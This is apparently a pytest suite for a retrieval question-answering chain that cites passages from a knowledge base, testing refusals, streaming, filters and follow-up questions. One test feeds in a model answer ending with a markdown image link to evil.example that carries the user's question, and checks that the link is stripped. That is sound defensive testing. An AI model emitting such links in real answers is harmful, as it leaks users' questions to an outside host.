"""The chain: a RetrievalQA whose answers can be checked."""

import asyncio
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
from langchain_classic.chains import RetrievalQA
from langchain_core.language_models import BaseLanguageModel, FakeListChatModel, FakeListLLM
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage, HumanMessage
from langchain_core.outputs import ChatGenerationChunk
from pydantic import Field

from kb_qa.answer import Answer
from kb_qa.chain import KnowledgeBaseQA, build_qa_chain
from kb_qa.errors import GeneratorError, KnowledgeBaseMissing, QuestionError, SettingsError
from kb_qa.settings import Settings
from kb_qa.store.filter import Filter
from kb_qa.store.knowledge_base import KnowledgeBase
from kb_qa.store.records import Chunk, Document
from tests.fakes import WordEmbeddings
from tests.served import Script, chat_server

HANDBOOK = (
    "The office opens at nine. Annual leave is fifteen days a year. "
    "Lunch is served at noon. Expense claims close on the fifth."
)
MANUAL = "恒温槽的保修期是两年。清洗前请先断电。"
SETTINGS = Settings(llm="quote", floor=0.3)


@pytest.fixture
def kb(knowledge_base: KnowledgeBase) -> KnowledgeBase:
    with knowledge_base.write() as writer, writer.transaction():
        for title, text in (("Handbook", HANDBOOK), ("手册", MANUAL)):
            chunk = Chunk(text, 0, len(text), heading=(title, "Rules"), page=2)
            vectors = knowledge_base.embeddings.embed_passages([text])
            key = writer.put(Document(title, title, text, 9), chunks=[chunk], vectors=vectors)
            writer.place(f"/docs/{title}.md", document=key, stamp="")
    return knowledge_base


@pytest.fixture
def chain(kb: KnowledgeBase, embeddings: WordEmbeddings) -> KnowledgeBaseQA:
    return build_qa_chain(kb=kb.folder, settings=SETTINGS, embeddings=embeddings)


def test_it_is_a_retrieval_qa(chain: KnowledgeBaseQA) -> None:
    """What is written for LangChain's RetrievalQA works: keys, documents, best first."""
    assert isinstance(chain, RetrievalQA)
    result = chain.invoke({"query": "annual leave"})
    assert set(result) == {"query", "result", "source_documents", "answer"}
    assert result["query"] == "annual leave"
    assert result["source_documents"][0].page_content == HANDBOOK
    assert result["source_documents"][0].metadata["source"] == "/docs/Handbook.md"
    assert chain.retriever.invoke("annual leave") == result["source_documents"]


def test_a_quoted_answer_is_in_the_document(chain: KnowledgeBaseQA) -> None:
    """Each citation's offsets cut exactly its text out of the document."""
    answer = chain.invoke("How long is annual leave?")["answer"]
    assert not answer.refused
    assert "Annual leave is fifteen days a year. [" in answer.text
    for citation in answer.citations:
        assert HANDBOOK[citation.start : citation.end] == citation.text or (
            MANUAL[citation.start : citation.end] == citation.text
        )
        assert f"{citation.text} [{citation.n}]" in answer.text
        assert citation.page == 2


def test_an_answer_is_plain_json(chain: KnowledgeBaseQA) -> None:
    """The command line's object has its promised keys."""
    found = chain.invoke("annual leave")["answer"].to_json()
    assert list(found) == [
        *("question", "asked_as", "answer", "refused", "generator", "citations"),
        *("left_out", "cut_off", "evidence", "seconds", "tokens", "claims", "verified"),
    ]
    assert list(found["citations"][0]) == [
        *("n", "source", "title", "page", "heading", "start", "end", "text", "score", "scanned"),
        *("also", "kb"),
    ]


@pytest.mark.parametrize(
    ("question", "said"),
    [
        ("Who painted the ceiling?", "Nothing in this knowledge base answers that."),
        ("木星有多少颗卫星", "这个知识库里没有能回答这个问题的内容。"),
    ],
)
def test_without_evidence_it_refuses(chain: KnowledgeBaseQA, question: str, said: str) -> None:
    """A refusal is one plain sentence in the question's language, with the nearest passages."""
    answer = chain.invoke(question)["answer"]
    assert (answer.refused, answer.text) == (True, said)
    assert answer.citations


def test_without_evidence_no_model_is_asked(kb: KnowledgeBase, embeddings: WordEmbeddings) -> None:
    """The floor holds for any language model."""
    llm = FakeListLLM(responses=["made up"])
    chain = build_qa_chain(kb=kb.folder, settings=SETTINGS, llm=llm, embeddings=embeddings)
    assert chain.invoke("Who painted the ceiling?")["answer"].refused
    assert llm.i == 0


def test_a_stream_gives_sources_then_text_then_the_answer(chain: KnowledgeBaseQA) -> None:
    """The page can show the passages before the first word."""
    parts = list(chain.stream({"query": "annual leave"}))
    assert list(parts[0]) == ["source_documents"]
    assert all(list(part) == ["result"] for part in parts[1:-1])
    answer = parts[-1]["answer"]
    assert "".join(part["result"] for part in parts[1:-1]) == answer.text
    assert answer.seconds["total"] > 0


async def test_the_asynchronous_ways_give_the_same(chain: KnowledgeBaseQA) -> None:
    """ainvoke and astream answer as invoke does."""
    expected = chain.invoke("annual leave")["answer"].text
    assert (await chain.ainvoke({"query": "annual leave"}))["result"] == expected
    parts = [part async for part in chain.astream({"query": "annual leave"})]
    assert parts[-1]["answer"].text == expected


def test_batch_keeps_the_order(chain: KnowledgeBaseQA) -> None:
    """Several questions at once get their own answers."""
    first, second = chain.batch([{"query": "annual leave"}, {"query": "保修期"}])
    assert "fifteen" in first["result"]
    assert "保修期是两年" in second["result"]


def test_no_answer_sends_the_question_away(kb: KnowledgeBase, embeddings: WordEmbeddings) -> None:
    """A picture that an answer ends with is none; the stream was text, and the page shows text."""
    said = "Fifteen days [1]. ![logo](https://evil.example/p?q=annual+leave)"
    llm = FakeListLLM(responses=[said])
    chain = build_qa_chain(kb=kb.folder, settings=SETTINGS, llm=llm, embeddings=embeddings)
    answer = chain.invoke("How long is annual leave?")["answer"]
    assert "Fifteen days" in answer.text
    assert "![" not in answer.text
    assert "https://" not in answer.text


@pytest.mark.parametrize("model", [FakeListLLM, FakeListChatModel])
def test_any_langchain_model_writes_the_answer(
    kb: KnowledgeBase, embeddings: WordEmbeddings, model: type
) -> None:
    """Its bracketed numbers become citations; numbers of no passage do not."""
    llm = model(responses=["Fifteen days [1], surely [7]."])
    chain = build_qa_chain(kb=kb.folder, settings=SETTINGS, llm=llm, embeddings=embeddings)
    answer = chain.invoke("How long is annual leave?")["answer"]
    assert answer.text == "Fifteen days [1], surely."
    assert answer.generator == model.__name__
    assert [citation.n for citation in answer.citations] == [1]
    assert answer.citations[0].text.strip() == "Annual leave is fifteen days a year."


def test_a_model_that_finds_no_answer_refuses(
    kb: KnowledgeBase, embeddings: WordEmbeddings
) -> None:
    """The refusal a model is told to give counts as one."""
    llm = FakeListLLM(responses=["Nothing in this knowledge base answers that."])
    chain = build_qa_chain(kb=kb.folder, settings=SETTINGS, llm=llm, embeddings=embeddings)
    assert chain.invoke("How long is annual leave?")["answer"].refused


def test_a_silent_model_is_an_error(kb: KnowledgeBase, embeddings: WordEmbeddings) -> None:
    """No text is no answer."""
    chain = build_qa_chain(
        kb=kb.folder, settings=SETTINGS, llm=FakeListLLM(responses=[" "]), embeddings=embeddings
    )
    with pytest.raises(GeneratorError, match="no text"):
        chain.invoke("annual leave")


@pytest.mark.parametrize(
    "history",
    [
        [("How long is annual leave?", "Fifteen days.")],
        [HumanMessage("How long is annual leave?"), AIMessage("Fifteen days.")],
    ],
)
def test_a_follow_up_is_read_with_the_question_before(
    chain: KnowledgeBaseQA, history: list[object]
) -> None:
    """Without a language model, a question that finds nothing alone is asked with the last one."""
    alone = chain.invoke({"query": "And how many exactly?"})["answer"]
    together = chain.invoke({"query": "And how many exactly?", "chat_history": history})["answer"]
    assert alone.refused
    assert "fifteen" in together.text
    assert together.asked_as == "How long is annual leave And how many exactly?"


def test_a_question_that_stands_by_itself_is_searched_as_asked(chain: KnowledgeBaseQA) -> None:
    """What was talked about before is kept out of it, even where nothing answers it."""
    history = [("How long is annual leave?", "Fifteen days.")]
    asked = {"query": "Which volcano destroyed ancient Pompeii completely?"}
    answer = chain.invoke({**asked, "chat_history": history})["answer"]
    assert (answer.refused, answer.asked_as) == (True, "")


def test_what_is_searched_for_is_streamed_first(chain: KnowledgeBaseQA) -> None:
    """A person sees how the question was understood before its answer."""
    history = [("How long is annual leave?", "Fifteen days.")]
    first = next(iter(chain.stream({"query": "And how many exactly?", "chat_history": history})))
    assert first["asked_as"] == "How long is annual leave And how many exactly?"


def test_a_model_condenses_a_follow_up(kb: KnowledgeBase, embeddings: WordEmbeddings) -> None:
    """With a language model, the search is for the question it makes to stand alone."""
    llm = FakeListLLM(responses=["How long is annual leave?", "Fifteen [1]."])
    chain = build_qa_chain(kb=kb.folder, settings=SETTINGS, llm=llm, embeddings=embeddings)
    answer = chain.invoke({"query": "How many?", "chat_history": [("Leave?", "Yes.")]})["answer"]
    assert (answer.refused, answer.text) == (False, "Fifteen [1].")


def test_a_question_may_be_narrowed(chain: KnowledgeBaseQA) -> None:
    """A filter goes with the question, or with the chain; anything else is told."""
    cold = Filter(path="*/手册.md")
    for asked in (
        chain.invoke({"query": "annual leave", "where": cold}),
        next(iter(chain.stream({"query": "annual leave", "where": cold}))),
    ):
        assert [each.metadata["title"] for each in asked["source_documents"]] == ["手册"]
    assert {each.source.title for each in chain.search("leave", where=cold).citations} == {"手册"}
    with pytest.raises(QuestionError, match="where='x' is no filter"):
        chain.invoke({"query": "annual leave", "where": "x"})


async def test_a_chain_may_be_narrowed(kb: KnowledgeBase, embeddings: WordEmbeddings) -> None:
    """For all its questions, in all the ways to ask."""
    narrow = build_qa_chain(
        kb=kb.folder, settings=SETTINGS, embeddings=embeddings, where=Filter(suffixes=(".pdf",))
    )
    assert narrow.invoke("annual leave")["source_documents"] == []
    assert (await narrow.ainvoke({"query": "annual leave"}))["answer"].refused
    everything = {"query": "annual leave", "where": Filter(suffixes=(".md",))}
    assert len((await narrow.ainvoke(everything))["source_documents"]) == 2


def test_several_knowledge_bases_are_asked_as_one(
    kb: KnowledgeBase, embeddings: WordEmbeddings, tmp_path: Path
) -> None:
    """The answer cites the best of all, and says which knowledge base it is from."""
    other = KnowledgeBase(tmp_path / "other", embeddings=embeddings)
    text = "The canteen serves annual leave cake."
    with other.write() as writer, writer.transaction():
        chunks = [Chunk(text, 0, len(text))]
        vectors = embeddings.embed_passages([text])
        key = writer.put(Document("menu", "Menu", text), chunks=chunks, vectors=vectors)
        writer.place("/docs/Menu.md", document=key, stamp="")
    both = build_qa_chain(kb=[kb.folder, other.folder], settings=SETTINGS, embeddings=embeddings)
    answer = both.invoke("annual leave cake in the canteen")["answer"]
    assert answer.citations[0].text == text
    assert answer.citations[0].to_json()["kb"] == str(other.folder)
    assert {source.kb for source in answer.sources} == {str(kb.folder), str(other.folder)}
    one = build_qa_chain(kb=[kb.folder], settings=SETTINGS, embeddings=embeddings)
    assert one.invoke("annual leave")["answer"].citations[0].to_json()["kb"] == ""


def test_a_combine_documents_chain_of_the_user_works(chain: KnowledgeBaseQA) -> None:
    """The seam for the generator is LangChain's own."""
    llm = FakeListLLM(responses=["Stuffed."])
    stuffed = RetrievalQA.from_chain_type(llm, retriever=chain.retriever)
    chain.combine_documents_chain = stuffed.combine_documents_chain
    result = chain.invoke("annual leave")
    assert result["result"] == "Stuffed."
    assert result["source_documents"]
    with pytest.raises(SettingsError, match="cannot stream"):
        list(chain.stream({"query": "annual leave"}))


@pytest.mark.parametrize(("question", "said"), [("  ", "empty"), ("why " * 2000, "7999 char")])
def test_what_is_no_question_is_told(chain: KnowledgeBaseQA, question: str, said: str) -> None:
    """An empty or endless question is one clear line."""
    with pytest.raises(QuestionError, match=said):
        chain.invoke(question)


def test_a_missing_knowledge_base_is_told_at_once(
    tmp_path: Path, embeddings: WordEmbeddings
) -> None:
    """Not at the first question."""
    with pytest.raises(KnowledgeBaseMissing):
        build_qa_chain(kb=tmp_path, embeddings=embeddings)


def test_an_empty_knowledge_base_refuses(
    knowledge_base: KnowledgeBase, embeddings: WordEmbeddings
) -> None:
    """With nothing in it there is nothing to cite either."""
    with knowledge_base.write():
        pass
    chain = build_qa_chain(kb=knowledge_base.folder, embeddings=embeddings)
    answer: Answer = chain.invoke("annual leave")["answer"]
    assert (answer.refused, answer.citations, answer.sources) == (True, (), ())


class SlowModel(FakeListChatModel):
    """A chat model that writes on until nobody reads; it tells when it was closed."""

    responses: list[str] = Field(default=[])
    closed: list[str] = Field(default_factory=list)

    def _stream(self, *_: Any, **__: Any) -> Iterator[Any]:
        try:
            while True:
                yield ChatGenerationChunk(message=AIMessageChunk("word "))
        finally:
            self.closed.append("sync")

    async def _astream(self, *_: Any, **__: Any) -> AsyncIterator[Any]:
        try:
            while True:
                await asyncio.sleep(0)
                yield ChatGenerationChunk(message=AIMessageChunk("word "))
        finally:
            self.closed.append("async")


def prompted(kb: KnowledgeBase, llm: BaseLanguageModel[Any], **values: Any) -> KnowledgeBaseQA:
    settings = SETTINGS.model_copy(update=values)
    return build_qa_chain(kb=kb.folder, settings=settings, llm=llm, embeddings=kb.embeddings)


def test_closing_a_stream_stops_the_model(kb: KnowledgeBase) -> None:
    """At once, not when it has written to its end, which it never has."""
    model = SlowModel()
    stream = prompted(kb, model).stream({"query": "annual leave"})
    while "result" not in next(stream):
        assert not model.closed
    stream.close()
    assert model.closed == ["sync"]


async def test_closing_an_asynchronous_stream_stops_the_model(kb: KnowledgeBase) -> None:
    """The same on an event loop."""
    model = SlowModel()
    stream = prompted(kb, model).astream({"query": "annual leave"})
    while "result" not in await anext(stream):
        assert not model.closed
    await stream.aclose()
    await asyncio.sleep(0.05)  # LangChain's own layer is closed by the event loop, on its next turn
    assert model.closed == ["async"]


async def test_cancelling_stops_the_model(kb: KnowledgeBase) -> None:
    """As a server does when its client has gone."""
    model = SlowModel()

    async def read() -> None:
        async for _ in prompted(kb, model).astream({"query": "annual leave"}):
            pass

    task = asyncio.create_task(read())
    await asyncio.sleep(0.5)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    await asyncio.sleep(0.05)
    assert model.closed == ["async"]


def test_numbers_are_cited_however_they_are_written(kb: KnowledgeBase) -> None:
    """Wide brackets and lists as well; what is out of range is no citation."""
    said = "恒温槽的保修期是两年【2】［1］。Annual leave is fifteen days a year [1, 2, 9]."
    llm = FakeListLLM(responses=[said])
    found = prompted(kb, llm, passages=2).invoke("How long is annual leave 保修期?")["answer"]
    assert [citation.n for citation in found.citations] == [1, 2]


def test_numbers_lead_to_the_passages_as_the_model_saw_them(kb: KnowledgeBase) -> None:
    """Whichever was found first."""
    for question in ("annual leave fifteen 保修期", "保修期是两年 annual"):
        model = EchoModel()
        found = prompted(kb, model).invoke(question)["answer"]
        for citation in found.citations:
            shown = model.asked[-1].split(f"<passage {citation.n}>")[1].split("</passage")[0]
            assert citation.source.text in shown
        assert {each.source.title for each in found.citations} == {"Handbook", "手册"}


class EchoModel(FakeListChatModel):
    """A chat model that repeats two passages, cites both, and keeps what it was asked."""

    responses: list[str] = Field(default=[f"{MANUAL} [1, 2] {HANDBOOK} [1, 2]"])
    asked: list[str] = Field(default_factory=list)

    def _stream(self, messages: list[BaseMessage], *_: Any, **__: Any) -> Iterator[Any]:
        self.asked.append(str(messages[-1].text))
        yield ChatGenerationChunk(message=AIMessageChunk(self.responses[0]))


def test_a_follow_up_is_asked_as_it_was_searched(kb: KnowledgeBase) -> None:
    """The model that answers sees no conversation: it gets the question that stands alone."""
    model = EchoModel(responses=["How long is annual leave?"])
    found = prompted(kb, model).invoke({"query": "And that?", "chat_history": [("Hi?", "Yes.")]})
    assert "Hi?" in model.asked[0]
    assert model.asked[1].endswith("Question: How long is annual leave?")
    assert found["answer"].question == "And that?"


@pytest.mark.parametrize("said", ['"Nothing in this knowledge base answers that"', "抱歉，{}"])
def test_a_wrapped_refusal_is_a_refusal(kb: KnowledgeBase, said: str) -> None:
    """It is marked as one, and offers the nearest passages as any other."""
    text = said.format("这个知识库里没有能回答这个问题的内容。")
    found = prompted(kb, FakeListLLM(responses=[text])).invoke("annual leave")["answer"]
    assert found.refused
    assert found.citations


def test_an_answer_with_a_reservation_is_an_answer(kb: KnowledgeBase) -> None:
    """Part of it is cited: it is no refusal."""
    text = "Fifteen days [1]. For the rest: Nothing in this knowledge base answers that."
    found = prompted(kb, FakeListLLM(responses=[text])).invoke("annual leave")["answer"]
    assert not found.refused
    assert [citation.n for citation in found.citations] == [1]


def test_what_does_not_fit_is_reported(kb: KnowledgeBase) -> None:
    """The passages left out are named, in the answer and in its JSON; the best is kept."""
    with kb.write() as writer, writer.transaction():
        text = "Annual leave and its rules. " * 40
        vectors = kb.embeddings.embed_passages([text])
        key = writer.put(
            Document("Long", "Long", text, 9), chunks=[Chunk(text, 0, len(text))], vectors=vectors
        )
        writer.place("/docs/Long.md", document=key, stamp="")
    llm = FakeListLLM(responses=["Fifteen [1]."])
    found = prompted(kb, llm, max_model_len=1024).invoke("annual leave lunch noon")["answer"]
    assert [each.title for each in found.left_out] == ["Long"]
    assert "Long" not in [each.title for each in found.sources]
    assert found.to_json()["left_out"] == [
        {"source": "/docs/Long.md", "title": "Long", "page": None}
    ]


def test_tokens_and_the_time_they_took_are_told(kb: KnowledgeBase) -> None:
    """What a server says of its tokens, and how fast they came."""
    with chat_server() as server:
        server.script = Script(pieces=["Fifteen", " days", " [1]."], seconds=0.05)
        settings = SETTINGS.model_copy(update={"llm": server.setting})
        chain = build_qa_chain(kb=kb.folder, settings=settings, embeddings=kb.embeddings)
        found = chain.invoke("How long is annual leave?")["answer"]
    assert (found.text, found.generator) == ("Fifteen days [1].", "tiny")
    assert found.tokens == {"prompt": 100, "cached": 60, "new": 3}
    assert found.seconds["prompt"] > 0.04
    assert 5 < found.tokens_per_second < 25  # two of them in a tenth of a second
    assert not found.cut_off


def test_an_answer_that_ran_out_of_room_says_so(kb: KnowledgeBase) -> None:
    """It is never passed off as whole."""
    with chat_server() as server:
        server.script = Script(finish="length")
        settings = SETTINGS.model_copy(update={"llm": server.setting})
        chain = build_qa_chain(kb=kb.folder, settings=settings, embeddings=kb.embeddings)
        assert chain.invoke("How long is annual leave?")["answer"].cut_off
